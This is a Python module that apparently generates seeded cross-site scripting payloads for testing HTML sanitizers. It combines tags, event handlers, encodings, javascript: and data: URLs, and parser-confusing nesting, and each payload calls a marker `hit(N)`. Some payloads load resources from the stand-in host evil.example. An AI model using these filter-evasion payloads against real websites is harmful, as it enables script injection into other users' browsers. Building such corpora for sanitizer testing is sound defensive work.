"""Attempts to make a browser run script, grown here from a small grammar; each calls `hit(N)`.

Tags × events × quoting × separators × encodings × contexts × shapes that parsers mend differently.
The same seed gives the same payloads.
"""

import random

TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus",
    "iframe", "object data=x", "embed src=x", "math", "marquee", "select autofocus", "a href=x",
    "style", "link rel=stylesheet href=x", "p", "cite data-source=x", "figure data-image=x", "td",
    "h2", "form", "button", "textarea autofocus", "keygen autofocus", "image src=x", "xss",
    "x-y", "template", "noscript", "dialog open", "source src=x", "track src=x", "blockquote",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart",
    "onpointerenter", "onbeforetoggle", "onscroll", "onstart", "onloadstart", "onwheel",
    "onauxclick", "ontransitionend", "oncopy", "onfocusin", "ONERROR", "oNlOaD", "onbegin",
)  # fmt: skip
SEPARATORS = (" ", "/", "\t", "\n", "\x0c", "\r", "//", " / ", "\x0b", "\u00a0")
QUOTES = ('"', "'", "", "`")
URL_PARTS = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}",
    "&#x6A;avascript:{}", "javascript&colon;{}", "javascript&#58;{}", "\x01javascript:{}",
    " javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "javascript://%0a{}",
    "&#0000106avascript:{}", "jav&Tab;ascript:{}", "jav&NewLine;ascript:{}", "//javascript:{}",
    "data:image/svg+xml,<svg onload={}>", "blob:{}", "view-source:javascript:{}", "%6aavascript:{}",
    "\ufeffjavascript:{}", "feed:javascript:{}", "javascript:javascript:{}",
)  # fmt: skip
URL_PLACES = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<object data="{}"></object>',
    '<embed src="{}">', '<math href="{}">x</math>', '<base href="{}">',
    '<link href="{}" rel=import>',
    '<svg><use href="{}"></use></svg>', '<svg><animate attributeName=href values="{}" /></svg>',
    '<meta http-equiv=refresh content="0;url={}">', '<area href="{}">', '<img src="{}">',
    '<video poster="{}">', '<table background="{}"><td>x</td></table>', '<blockquote cite="{}">x',
    '<cite data-source="{}">x</cite>', '<img srcset="{} 1x">', '<iframe srcdoc="{}"></iframe>',
)  # fmt: skip
# Where one parser sees text and another sees markup.
SHAPES = (
    "{}", "<p>{}</p>", "<table>{}</table>", "<svg>{}</svg>", "<math>{}</math>", "<!--{}-->",
    "<!-->{}-->", "<![CDATA[{}]]>", "<svg><style>{}</style></svg>", "<style>{}</style>",
    "<noscript><p title=\"</noscript>{}\"></noscript>", "<textarea>{}</textarea>",
    "<title>{}</title>", "<xmp>{}</xmp>", "<template>{}</template>", "<select>{}</select>",
    "<svg><desc>{}</desc></svg>", "<math><mtext><table><mglyph><style><!--</style>{}-->",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg></p><style><a id=\"</style>{}\">", "<math><annotation-xml encoding=text/html>{}",
    "<cite data-source=\"{}\"></cite>", "<a title='{}'>x</a>", "<a title=\"`{}`\">x</a>",
    "<p><table><caption><p>{}</table>", "<svg><foreignObject>{}</foreignObject></svg>",
    "\"><x>{}", "'><x>{}", "-->{}", "]]>{}", "</script>{}", "</textarea></title>{}",
    "<figure data-image=0123456789abcdef0123456789abcdef>{}</figure>", "<h2>{}", "<li>{}",
    "<plaintext>{}", "<noembed>{}</noembed>", "<iframe>{}</iframe>", "<b><i></b>{}</i>", "<{}",
    "&lt;p&gt;{}", "<p {}>", "<p title={}>", "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "<?{}?>",
)  # fmt: skip


def _script(number: int, chance: random.Random) -> str:
    call = f"hit({number})"
    way = chance.randrange(8)
    if way == 0:
        return f"hit`{number}`"
    if way == 1:
        return "".join(f"&#{ord(c)};" for c in call)
    if way == 2:
        return "".join(f"&#x{ord(c):x}" + ";" for c in call)
    if way == 3:
        return f"top['hit']({number})"
    if way == 4:
        return f"\\u0068it({number})"
    return call


def _by_event(number: int, chance: random.Random) -> str:
    tag, event = chance.choice(TAGS), chance.choice(EVENTS)
    between, quote = chance.choice(SEPARATORS), chance.choice(QUOTES)
    equals = chance.choice(("=", " = ", "=\n", "\t="))
    more = chance.choice(("", " tabindex=1 style=animation-name:x", " id=x", " contenteditable"))
    end = chance.choice((">", "/>", "", ">x", f"></{tag.split()[0]}>", " <"))
    script = _script(number, chance)
    return f"<{tag}{more}{between}{event}{equals}{quote}{script}{quote}{end}"


def _by_address(number: int, chance: random.Random) -> str:
    address = chance.choice(URL_PARTS).format(_script(number, chance))
    return chance.choice(URL_PLACES).format(address)


def _by_element(number: int, chance: random.Random) -> str:
    script = f"hit({number})"
    return chance.choice(
        (
            f"<script>{script}</script>",
            f"<ScRiPt >{script}</sCrIpT >",
            f"<script/x>{script}</script\t>",
            f"<scr<script>ipt>{script}</scr</script>ipt>",
            f"<svg><script>{script}</script></svg>",
            f"<svg><script>&#104;it({number})</script></svg>",
            f"<script type=module>{script}</script>",
            f"<script>{script}//",
            f"<math><script>{script}</script></math>",
            f"<style>@import 'https://evil.example/{number}';</style>",
            f'<p style="background:url(https://evil.example/{number})">x</p>',
            f"<img src=https://evil.example/{number}>",
            f"<link rel=stylesheet href=https://evil.example/{number}>",
            f"<svg><set attributeName=onmouseover to={script} />",
            f"<svg><animate onbegin={script} attributeName=x dur=1s>",
            f"\x00<script>{script}</script>",
            f"＜script＞{script}＜/script＞",
            f"+ADw-script+AD4-{script}+ADw-/script+AD4-",
        )
    )


def payloads(count: int, seed: int = 8) -> list[str]:
    """So many different payloads; each names its place in the list."""
    chance, found, known = random.Random(seed), [], set()
    while len(found) < count:
        number = len(found)
        make = chance.choice((_by_event, _by_event, _by_address, _by_address, _by_element))
        text = make(number, chance)
        for _ in range(chance.choice((0, 1, 1, 2))):
            text = chance.choice(SHAPES).format(text)
        if text not in known:
            known.add(text)
            found.append(text)
    return found
